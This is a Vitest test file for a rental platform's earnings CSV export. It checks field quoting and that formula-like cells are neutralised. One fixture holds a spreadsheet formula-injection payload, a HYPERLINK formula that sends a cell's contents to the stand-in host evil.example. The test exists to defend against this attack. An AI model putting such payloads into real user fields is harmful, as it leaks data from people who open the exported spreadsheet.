import { describe, expect, it } from 'vitest';
import { buildEarningsCsv } from './earnings-csv';

describe('buildEarningsCsv', () => {
  it('writes one line per booking, amounts in rupees, fields quoted where needed', () => {
    const csv = buildEarningsCsv([
      {
        bookingId: '00000000-0000-4000-8000-000000000001',
        reference: 'NST-AAA111',
        propertyTitle: 'Flat, "sea view"',
        tenantName: 'Ravi Nair',
        moveInDate: '2031-01-09',
        endDate: '2031-04-09',
        status: 'cancelled',
        earned: 10_800_000,
        reversed: 5_400_000,
        net: 5_400_000,
        lastMovementAt: '2031-01-05T12:00:00.000Z',
      },
    ]);
    expect(csv.split('\r\n')).toEqual([
      'Booking,Property,Guest,Move-in,Move-out,Status,Earned (INR),Reversed (INR),Net (INR),Last movement',
      'NST-AAA111,"Flat, ""sea view""",Ravi Nair,2031-01-09,2031-04-09,cancelled,108000.00,54000.00,54000.00,2031-01-05T12:00:00.000Z',
      '',
    ]);
  });

  // Issue 23, item 1: a tenant's name (or a listing's title) must not become a formula.
  it('neutralises cells a spreadsheet would run as formulas, numbers kept as numbers', () => {
    const csv = buildEarningsCsv([
      {
        bookingId: '00000000-0000-4000-8000-000000000002',
        reference: 'NST-BBB222',
        propertyTitle: '@SUM(1+1)',
        tenantName: '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
        moveInDate: '2031-01-09',
        endDate: '2031-04-09',
        status: 'cancelled',
        earned: 0,
        reversed: 5_400_000,
        net: -5_400_000,
        lastMovementAt: '2031-01-05T12:00:00.000Z',
      },
    ]);
    expect(csv.split('\r\n')[1]).toBe(
      `NST-BBB222,'@SUM(1+1),"'=HYPERLINK(""http://evil.example/?x=""&A2,""Open"")",2031-01-09,2031-04-09,cancelled,0.00,54000.00,-54000.00,2031-01-05T12:00:00.000Z`,
    );
  });
});
